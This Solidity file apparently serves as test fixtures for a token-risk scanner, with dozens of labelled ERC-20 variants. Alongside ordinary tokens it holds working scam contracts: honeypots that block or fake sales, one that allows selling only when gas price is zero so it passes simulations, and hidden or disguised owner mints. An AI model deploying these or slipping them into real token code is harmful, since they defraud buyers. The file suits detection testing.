// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// Tokens of every kind that a trader meets. Half of the supply is in the pool from the start, half is the owner's.
abstract contract ZooToken {
    string public constant name = "Zoo";
    string public constant symbol = "ZOO";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal held;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal pool;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 supply, address pool_, address keeper) {
        _found(supply, pool_, keeper);
    }

    function _found(uint256 supply, address pool_, address keeper) internal {
        totalSupply = supply;
        pool = pool_;
        held[pool_] = supply / 2;
        held[keeper] = supply - supply / 2;
        emit Transfer(address(0), pool_, supply / 2);
        emit Transfer(address(0), keeper, supply - supply / 2);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return held[account];
    }

    function approve(address spender, uint256 value) external virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external virtual returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        _spend(from, value);
        _move(from, to, value);
        return true;
    }

    function _spend(address from, uint256 value) internal {
        uint256 allowed = allowance[from][msg.sender];
        require(allowed >= value, "allowance");
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        require(held[from] >= value, "balance");
        held[from] -= value;
        held[to] += value;
        emit Transfer(from, to, value);
    }

    function _issue(address to, uint256 value) internal {
        totalSupply += value;
        held[to] += value;
        emit Transfer(address(0), to, value);
    }
}

abstract contract ZooOwned is ZooToken {
    address public owner;

    modifier onlyOwner() {
        require(msg.sender == owner, "owner");
        _;
    }

    function transferOwnership(address to) external onlyOwner {
        owner = to;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }
}

contract ZooPlain is ZooToken {
    constructor(uint256 supply, address pool_, address keeper) ZooToken(supply, pool_, keeper) {}
}

contract ZooOwnedPlain is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function burn(uint256 value) external {
        require(held[msg.sender] >= value, "balance");
        held[msg.sender] -= value;
        totalSupply -= value;
        emit Transfer(msg.sender, address(0), value);
    }

    function increaseAllowance(address spender, uint256 more) external returns (bool) {
        allowance[msg.sender][spender] += more;
        return true;
    }
}

contract ZooMintable is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function mint(address to, uint256 value) external onlyOwner {
        _issue(to, value);
    }
}

/// Up to a cap; mints nothing once it is finished.
contract ZooMintCapped is ZooOwned {
    uint256 public cap;

    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 cap_)
        ZooToken(supply, pool_, keeper)
    {
        owner = owner_;
        cap = cap_;
    }

    function mint(address to, uint256 value) external onlyOwner {
        require(totalSupply + value <= cap, "cap");
        _issue(to, value);
    }
}

/// Adds to its owner's balance under an innocent name and says nothing of it.
contract ZooMintQuiet is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function syncRewards(address to, uint256 value) external onlyOwner {
        held[to] += value;
    }
}

/// Named no owner, and has one.
contract ZooMintHidden is ZooToken {
    address private keeper_;

    constructor(uint256 supply, address pool_, address keeper, address hidden) ZooToken(supply, pool_, keeper) {
        keeper_ = hidden;
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function mint(address to, uint256 value) external {
        require(msg.sender == keeper_, "keeper");
        _issue(to, value);
    }
}

/// Its owner is none, its minters are many.
contract ZooMintRoles is ZooToken {
    mapping(address => bool) private minters;

    constructor(uint256 supply, address pool_, address keeper, address minter) ZooToken(supply, pool_, keeper) {
        minters[minter] = true;
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function mint(address to, uint256 value) external {
        require(minters[msg.sender], "minter");
        _issue(to, value);
    }
}

contract ZooMintOpen is ZooToken {
    constructor(uint256 supply, address pool_, address keeper) ZooToken(supply, pool_, keeper) {}

    function claim() external {
        _issue(msg.sender, 1000 ether);
    }
}

contract ZooPausable is ZooOwned {
    bool public paused;

    constructor(uint256 supply, address pool_, address keeper, address owner_, bool paused_)
        ZooToken(supply, pool_, keeper)
    {
        owner = owner_;
        paused = paused_;
    }

    function pause() external onlyOwner {
        paused = true;
    }

    function unpause() external onlyOwner {
        paused = false;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!paused, "paused");
        super._move(from, to, value);
    }
}

/// Switches trading with the pool off; accounts may still pay each other.
contract ZooTradingSwitch is ZooOwned {
    bool private tradingOpen = true;

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function configure(bool on) external onlyOwner {
        tradingOpen = on;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(tradingOpen || (from != pool && to != pool), "closed");
        super._move(from, to, value);
    }
}

/// Trading was opened once, and cannot be closed; who described it first did so for ever.
contract ZooOpened is ZooOwned {
    bool private opened = true;
    string public description = "described";

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function openTrading() external onlyOwner {
        require(!opened, "open");
        opened = true;
    }

    function describe(string calldata text) external {
        require(bytes(description).length == 0, "described");
        description = text;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(opened || from == owner, "closed");
        super._move(from, to, value);
    }
}

/// Once opened, its owner may close it for good.
contract ZooOneWay is ZooOwned {
    bool private closed;
    bool private armed = true;

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function arm(bool on) external onlyOwner {
        armed = on;
    }

    function finish() external onlyOwner {
        require(!armed, "armed");
        closed = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!closed, "closed");
        super._move(from, to, value);
    }
}

/// Limits what one transfer moves.
contract ZooLimits is ZooOwned {
    uint256 public maxTx;

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
        maxTx = supply / 50_000;
    }

    function removeLimits() external onlyOwner {
        maxTx = type(uint256).max;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(value <= maxTx, "too much");
        super._move(from, to, value);
    }
}

contract ZooBlacklist is ZooOwned {
    mapping(address => bool) public listed;

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function blacklist(address account, bool on) external onlyOwner {
        listed[account] = on;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!listed[from] && !listed[to], "listed");
        super._move(from, to, value);
    }
}

contract ZooBots is ZooOwned {
    mapping(address => bool) private bots;

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function addMany(address[] calldata accounts) external onlyOwner {
        for (uint256 i = 0; i < accounts.length; i++) bots[accounts[i]] = true;
    }

    function delBot(address account) external onlyOwner {
        bots[account] = false;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!bots[from], "bot");
        super._move(from, to, value);
    }
}

/// Takes taxes in basis points of what is bought, sold and handed on.
abstract contract ZooTaxing is ZooOwned {
    uint256 internal buyBps;
    uint256 internal sellBps;
    uint256 internal moveBps;

    constructor(uint256 buy, uint256 sell, uint256 move) {
        (buyBps, sellBps, moveBps) = (buy, sell, move);
    }

    function _move(address from, address to, uint256 value) internal virtual override {
        uint256 bps = from == pool ? buyBps : to == pool ? sellBps : moveBps;
        uint256 tax = (value * bps) / 10_000;
        super._move(from, to, value - tax);
        if (tax > 0) super._move(from, address(this), tax);
    }
}

contract ZooTax is ZooTaxing {
    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 buy, uint256 sell, uint256 move)
        ZooToken(supply, pool_, keeper)
        ZooTaxing(buy, sell, move)
    {
        owner = owner_;
    }
}

contract ZooTaxSetter is ZooTaxing {
    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 buy, uint256 sell, uint256 move)
        ZooToken(supply, pool_, keeper)
        ZooTaxing(buy, sell, move)
    {
        owner = owner_;
    }

    function setTaxes(uint256 buy, uint256 sell) external onlyOwner {
        require(buy <= 25 && sell <= 25, "at most 25");
        (buyBps, sellBps) = (buy * 100, sell * 100);
    }
}

/// A single rate that can only go to what is not a name for it.
contract ZooTaxOdd is ZooTaxing {
    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 buy, uint256 sell, uint256 move)
        ZooToken(supply, pool_, keeper)
        ZooTaxing(buy, sell, move)
    {
        owner = owner_;
    }

    function calibrate(uint256 step) external onlyOwner {
        sellBps = step * 50;
    }
}

/// Sells what it took as tax when somebody sells, in the pair itself.
interface ZooPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256, uint256, address, bytes calldata) external;
}

contract ZooSwapBack is ZooTaxing {
    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 buy, uint256 sell)
        ZooToken(supply, pool_, keeper)
        ZooTaxing(buy, sell, 0)
    {
        owner = owner_;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 taken = held[address(this)];
        if (to == pool && from != address(this) && taken > 0) _sell(taken);
        super._move(from, to, value);
    }

    function _sell(uint256 amount) private {
        ZooPair pair = ZooPair(pool);
        bool first = pair.token0() == address(this);
        (uint256 a, uint256 b,) = pair.getReserves();
        (uint256 own, uint256 other) = first ? (a, b) : (b, a);
        held[address(this)] -= amount;
        held[pool] += amount;
        uint256 gives = (amount * 997 * other) / (own * 1000 + amount * 997);
        if (gives == 0) return;
        pair.swap(first ? 0 : gives, first ? gives : 0, owner, "");
    }
}

/// Only whom the owner chose at its birth can sell.
contract ZooHoneypot is ZooOwned {
    mapping(address => bool) private trusted;

    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
        trusted[keeper] = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(to != pool || trusted[from], "TransferHelper");
        super._move(from, to, value);
    }
}

/// Says that a sale went through, and moves nothing.
contract ZooHoneypotSilent is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pool && from != owner) {
            emit Transfer(from, to, value);
            return;
        }
        super._move(from, to, value);
    }
}

/// Forgets every approval but its owner's.
contract ZooHoneypotApproval is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        if (msg.sender == owner) allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

/// Sells only where nothing is paid for it, as in simulations.
contract ZooHoneypotAware is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(to != pool || from == owner || tx.gasprice == 0, "TransferHelper");
        super._move(from, to, value);
    }
}

/// Issues to its owner without a function for it.
contract ZooMintFallback is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    fallback() external {
        require(msg.sender == owner, "owner");
        _issue(owner, 1000 ether);
    }
}

/// Who bought keeps it for ever.
contract ZooStuck is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(from == pool || from == owner, "stuck");
        super._move(from, to, value);
    }
}

/// Can be bought and sold, and handed to nobody.
contract ZooPoolOnly is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(from == pool || to == pool, "pool only");
        super._move(from, to, value);
    }
}

/// An account waits between two transfers.
contract ZooCooldown is ZooOwned {
    mapping(address => uint256) private last;
    uint256 private immutable pause_;

    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 pause)
        ZooToken(supply, pool_, keeper)
    {
        owner = owner_;
        pause_ = pause;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from != pool) require(block.timestamp >= last[from] + pause_, "wait");
        last[to] = block.timestamp;
        super._move(from, to, value);
    }
}

/// Bars contracts other than the pool.
contract ZooBarsContracts is ZooOwned {
    constructor(uint256 supply, address pool_, address keeper, address owner_) ZooToken(supply, pool_, keeper) {
        owner = owner_;
    }

    function _move(address from, address to, uint256 value) internal override {
        require((from == pool || from.code.length == 0) && (to == pool || to.code.length == 0), "contract");
        super._move(from, to, value);
    }
}

/// Balances are shares of a supply that its owner, or time, changes.
contract ZooRebase is ZooOwned {
    uint256 private index = 1e18;
    uint256 private immutable yearly;
    uint256 private immutable start;

    constructor(uint256 supply, address pool_, address keeper, address owner_, uint256 yearlyBps)
        ZooToken(supply, pool_, keeper)
    {
        owner = owner_;
        yearly = yearlyBps;
        start = block.timestamp;
    }

    function _index() private view returns (uint256) {
        return index + (index * yearly * (block.timestamp - start)) / (10_000 * 365 days);
    }

    function balanceOf(address account) public view override returns (uint256) {
        return (held[account] * _index()) / 1e18;
    }

    function rebase(uint256 percent) external onlyOwner {
        require(percent < 100, "percent");
        index += (index * percent) / 100;
        totalSupply += (totalSupply * percent) / 100;
    }

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, (value * 1e18) / _index());
    }
}

/// transfer, transferFrom and approve return nothing; its owner bars accounts, pauses, issues and takes a fee, as with USDT.
contract ZooTether {
    string public constant name = "Zoo";
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public isBlackListed;
    address public owner;
    bool public paused;
    uint256 public basisPointsRate;

    constructor(uint256 supply, address pool_, address keeper, address owner_) {
        totalSupply = supply;
        balanceOf[pool_] = supply / 2;
        balanceOf[keeper] = supply - supply / 2;
        owner = owner_;
    }

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    function approve(address spender, uint256 value) external {
        allowance[msg.sender][spender] = value;
    }

    function transfer(address to, uint256 value) external {
        _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external {
        require(allowance[from][msg.sender] >= value);
        _move(from, to, value);
    }

    function addBlackList(address account) external onlyOwner {
        isBlackListed[account] = true;
    }

    function removeBlackList(address account) external onlyOwner {
        isBlackListed[account] = false;
    }

    function pause() external onlyOwner {
        require(!paused);
        paused = true;
    }

    function unpause() external onlyOwner {
        require(paused);
        paused = false;
    }

    function issue(uint256 amount) external onlyOwner {
        balanceOf[owner] += amount;
        totalSupply += amount;
    }

    function setParams(uint256 rate, uint256 most) external onlyOwner {
        require(rate < 20 && most < 50);
        basisPointsRate = rate;
    }

    function _move(address from, address to, uint256 value) private {
        require(!paused && !isBlackListed[from] && balanceOf[from] >= value);
        uint256 fee = (value * basisPointsRate) / 10_000;
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        balanceOf[owner] += fee;
    }
}

/// What proxies run.
contract ZooBehind is ZooOwned {
    bool private begun;

    constructor() ZooToken(0, address(0), address(0)) {}

    function found(uint256 supply, address pool_, address keeper, address owner_) internal {
        _found(supply, pool_, keeper);
        owner = owner_;
    }

    function initialize(address data) external {
        require(!begun, "begun");
        begun = true;
        (uint256 supply, address pool_, address keeper, address owner_) = ZooStart(data).start();
        found(supply, pool_, keeper, owner_);
    }
}

contract ZooBehindMintable is ZooBehind {
    function mint(address to, uint256 value) external onlyOwner {
        _issue(to, value);
    }
}

/// Says what a token begins with.
contract ZooStart {
    uint256 private immutable supply;
    address private immutable pool;
    address private immutable keeper;
    address private immutable owner;

    constructor(uint256 supply_, address pool_, address keeper_, address owner_) {
        (supply, pool, keeper, owner) = (supply_, pool_, keeper_, owner_);
    }

    function start() external view returns (uint256, address, address, address) {
        return (supply, pool, keeper, owner);
    }
}

abstract contract ZooHandsOn {
    constructor(address target, address data) {
        (bool ok,) = target.delegatecall(abi.encodeWithSignature("initialize(address)", data));
        require(ok, "initialize");
    }

    function _target() internal view virtual returns (address);

    fallback() external payable {
        address target = _target();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Keeps what it runs in one slot, whichever its standard names.
contract ZooSlotProxy is ZooHandsOn {
    uint256 private immutable slot;

    constructor(address target, address data, uint256 slot_) ZooHandsOn(target, data) {
        slot = slot_;
        assembly {
            sstore(slot_, target)
        }
    }

    function _target() internal view override returns (address target) {
        uint256 at = slot;
        assembly {
            target := sload(at)
        }
    }
}

contract ZooBeacon {
    address public implementation;

    constructor(address target) {
        implementation = target;
    }
}

contract ZooBeaconProxy is ZooHandsOn {
    uint256 private constant SLOT = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

    constructor(address beacon, address data) ZooHandsOn(ZooBeacon(beacon).implementation(), data) {
        assembly {
            sstore(SLOT, beacon)
        }
    }

    function _target() internal view override returns (address) {
        address beacon;
        assembly {
            beacon := sload(SLOT)
        }
        return ZooBeacon(beacon).implementation();
    }
}

/// Makes minimal proxies (ERC-1167).
contract ZooCloner {
    function clone(address target, address data) external returns (address made) {
        bytes20 word = bytes20(target);
        assembly {
            let code := mload(0x40)
            mstore(code, 0x3d602d80600a3d3981f3363d3d373d3d3d363d73000000000000000000000000)
            mstore(add(code, 0x14), word)
            mstore(add(code, 0x28), 0x5af43d82803e903d91602b57fd5bf30000000000000000000000000000000000)
            made := create(0, code, 0x37)
        }
        (bool ok,) = made.call(abi.encodeWithSignature("initialize(address)", data));
        require(ok, "initialize");
    }
}
